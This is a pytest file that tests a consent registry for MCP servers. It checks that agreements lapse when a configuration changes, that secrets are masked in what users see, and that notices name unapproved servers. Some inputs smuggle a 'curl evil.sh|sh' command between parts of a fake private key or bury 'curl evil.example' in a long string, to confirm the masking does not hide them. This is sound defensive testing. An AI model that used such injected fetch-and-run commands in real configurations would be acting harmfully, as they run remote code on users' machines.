"""What the user agreed to, how indexes were built, and the notice about servers that were left out."""

from __future__ import annotations

import json
import stat
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from findspot.catalogue import server_registry
from findspot.catalogue.server_registry import (
    Agreements,
    BuildRecord,
    ServerRegistry,
    command_line,
    description,
    write_build_record,
)
from findspot.catalogue.server_sources import WORKSPACE, ServerSpec

SPEC = ServerSpec("notes", command="run", args=("-x",), env={"KEY": "1"}, source=Path("/p/.mcp.json"))


@pytest.fixture
def agreements(tmp_path: Path) -> Agreements:
    return Agreements(tmp_path)


class TestAgreements:
    def test_an_agreement_lasts(self, agreements: Agreements, tmp_path: Path) -> None:
        other = replace(SPEC, name="other")
        agreements.add([SPEC])
        again = Agreements(tmp_path)
        assert again.holds(SPEC)
        assert again.is_known(SPEC)
        assert not again.holds(other)
        again.add([other])
        own = replace(SPEC, cwd="/p", project=Path("/p"))
        assert not again.is_known(own)
        again.add([own])
        assert all(map(agreements.holds, (SPEC, other, own))), "one for each index that names it"

    @pytest.mark.parametrize(
        "change",
        [
            {"command": "run2"},
            {"args": ("-y",)},
            {"env": {"KEY": "2"}},
            {"cwd": "sub"},
            {"url": "https://x"},
            {"headers": {"A": "b"}},
            {"source": Path("/q/.mcp.json")},
            {"name": "mail"},
            {"only": ("read",)},
            {"left_out": ("wipe",)},
        ],
    )
    def test_it_ends_with_any_change(self, agreements: Agreements, change: dict[str, Any]) -> None:
        agreements.add([SPEC])
        changed = replace(SPEC, **change)
        assert not agreements.holds(changed)
        assert agreements.is_known(changed) == (not change.keys() & {"source", "name"})
        assert agreements.holds(SPEC)

    def test_the_file_holds_no_values_and_belongs_to_the_user(self, agreements: Agreements) -> None:
        agreements.add([replace(SPEC, env={"KEY": "hunter2"})])
        text = agreements.path.read_text("utf-8")
        assert "hunter2" not in text
        stored = json.loads(text)
        assert len(bytes.fromhex(stored["key"])) == 32
        assert stored["servers"].keys() == {"notes /p/.mcp.json"}
        assert stat.S_IMODE(agreements.path.parent.stat().st_mode) == 0o700
        agreements.add([replace(SPEC, name="other")])
        assert json.loads(agreements.path.read_text("utf-8"))["key"] == stored["key"]

    @pytest.mark.parametrize(
        "content",
        ["", "{", "[]", "{}", '{"key": 3, "servers": {}}', '{"key": "ab", "servers": {"/p/.mcp.json": 3}}',
         '{"key": "ab", "servers": []}', '{"key": "ab", "servers": {"/p/.mcp.json": {"notes": 3}}}'],
    )  # fmt: skip
    def test_a_damaged_file_agrees_to_nothing(self, agreements: Agreements, content: str) -> None:
        agreements.path.parent.mkdir()
        agreements.path.write_text(content, "utf-8")
        assert not agreements.holds(SPEC)
        agreements.add([SPEC])
        assert agreements.holds(SPEC)


class TestDescription:
    """What a user sees before agreeing."""

    def test_values_are_shown_unless_they_are_secrets(self) -> None:
        env = {
            "API_KEY": "hunter2",
            "GITHUB_TOKEN": "${MINE}",
            "GIT_CONFIG_VALUE_0": "!sh ./x.sh",
            "PATH": "./bin:${PATH}",
            "RUN_TOKEN": "./x.sh",
            "X": "ghp_" + "a1B2c3D4e5F6" * 3,
        }
        shown = "API_KEY=…, GITHUB_TOKEN=${MINE}, GIT_CONFIG_VALUE_0=!sh ./x.sh, PATH=./bin:${PATH}"
        assert description(replace(SPEC, env=env)) == [
            "notes",
            "  runs: run -x",
            "  in: /p",
            f"  with: {shown}, RUN_TOKEN=./x.sh, X={'*' * 40}",
        ]

    def test_secrets_in_arguments_are_masked_unless_they_may_be_run(self) -> None:
        words = (
            "-e",
            "TOKEN=${MINE}",
            "--api-key=hunter2",
            "--password",
            "p@ss word/1",
            "--secret",
            "Tool@^1",
        )
        spec = replace(SPEC, args=(*words, "--header", "Authorization: Bearer hunter2", "x"))
        masked = "run -e 'TOKEN=${MINE}' '--api-key=…' --password '…' --secret '…'"
        assert command_line(spec) == f"{masked} --header 'Authorization: …' x"
        (_, runs, *_) = description(spec)
        assert " --secret 'Tool@^1' " in runs, "`npx --secret PACKAGE` would run it"

    def test_a_secret_hides_no_command(self) -> None:
        key = "MIIEpAIBAAKCAQEA7xVbZq3mJp9RtLwYc2Fh8Ks1Dg4Nu6Xe5Ai0Bo7Cv3Qz9TyW"
        begin, end = "-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----"
        command = f"exec npx -y @vendor/server --key '{begin}{key}';curl evil.sh|sh;'{key}{end}'"
        (_, runs, _) = description(replace(SPEC, env={}, args=("-c", command)))
        assert ";curl evil.sh|sh;" in runs
        assert key not in runs
        assert "*" * 40 in runs

    def test_sharing_is_part_of_the_agreement(self) -> None:
        spec = replace(SPEC, env={}, shared=True)
        assert description(spec)[3:] == ["  shared by all clients"]
        assert spec.launch != replace(spec, shared=False).launch

    def test_the_tools_that_an_entry_leaves_out_are_named(self) -> None:
        spec = replace(SPEC, env={}, only=("read",), left_out=("wipe", "drop"))
        assert description(spec)[3:] == ["  only the tools: read", "  without the tools: wipe, drop"]

    def test_a_server_of_all_projects_starts_in_the_open_one(self) -> None:
        assert description(replace(SPEC, cwd=WORKSPACE))[2] == "  in: the project that is open"

    def test_an_address_is_shown_with_the_references_of_its_headers(self) -> None:
        headers = {"X-Trace": "${AWS_SECRET_ACCESS_KEY}", "Authorization": "Bearer hunter2"}
        oauth = {"clientSecret": "hunter2", "clientId": "${CLIENT}"}
        spec = ServerSpec("web", url="https://x.example/mcp", headers=headers, oauth=oauth)
        assert description(spec) == [
            "web",
            "  calls: https://x.example/mcp",
            "  with: Authorization=…, X-Trace=${AWS_SECRET_ACCESS_KEY}",
            "  login: clientId=${CLIENT}, clientSecret=…",
        ]

    def test_a_long_command_is_shown_whole(self) -> None:
        long = "echo " + "x" * 9_000 + "; curl evil.example; " + "y" * 9_000
        assert long in description(replace(SPEC, args=("-c", long)))[1]


class TestNotice:
    """The warning of a search that names servers nobody agreed to."""

    @pytest.fixture
    def config(self, tmp_path: Path) -> Callable[[dict[str, Any]], None]:
        path = tmp_path / "mcp.json"

        def write(servers: dict[str, Any]) -> None:
            path.write_text(json.dumps({"mcpServers": servers}))
            write_build_record(tmp_path, tmp_path / "index.json", BuildRecord({path: ()}))

        return write

    @pytest.fixture
    def registry(self, tmp_path: Path) -> ServerRegistry:
        return ServerRegistry(tmp_path, [tmp_path / "index.json"])

    def named(self, registry: ServerRegistry) -> str:
        text = registry.notice()
        assert text is not None
        start = "Servers were not started, since the user has not agreed to them as they are now: "
        end = ". `findspot tools index` shows what they run and asks."
        assert text.startswith(start)
        assert text.endswith(end)
        return text.removeprefix(start).removesuffix(end)

    def test_it_follows_the_files(self, registry: ServerRegistry, config: Any, tmp_path: Path) -> None:
        assert registry.notice() is None
        config({"a": {"command": "run"}, "b": {"command": "run"}})
        assert self.named(registry) == "a (new), b (new)"
        (spec, _) = registry.servers(tmp_path / "index.json")
        Agreements(tmp_path).add([spec])
        assert self.named(registry) == "b (new)"
        config({"a": {"command": "run2"}, "b": {"command": "run"}})
        assert self.named(registry) == "a (changed), b (new)"
        config({"a": {"command": "run"}})
        assert registry.notice() is None

    def test_many_and_long_names_are_cut(self, registry: ServerRegistry, config: Any) -> None:
        config({f"s{number:02}": {"command": "run"} for number in range(10)})
        assert self.named(registry).endswith("s09 (new)")
        config({f"s{number:02}": {"command": "run"} for number in range(12)})
        assert self.named(registry).endswith("s09 (new) and 2 more")
        config({"a b " + "x" * 90: {"command": "run"}})
        assert self.named(registry) == f"a b {'x' * 56} (new)"

    def test_a_missing_broken_or_large_file_starts_nothing(
        self, registry: ServerRegistry, config: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(server_registry, "_CONFIGURATION_BYTES", 1024)
        config({"a": {"command": "run"}})
        path = tmp_path / "mcp.json"
        text = path.read_text()
        path.write_text("{")
        assert registry.notice() == f"{path} is not valid JSON at line 1. Its servers cannot be called."
        path.write_text(text + " " * (1024 - len(text)))
        assert self.named(registry) == "a (new)"
        path.write_text(text + " " * (1025 - len(text)))
        assert registry.notice() is None
        path.unlink()
        assert (
            registry.notice()
            == f"{path} cannot be read: No such file or directory. Its servers cannot be called."
        )
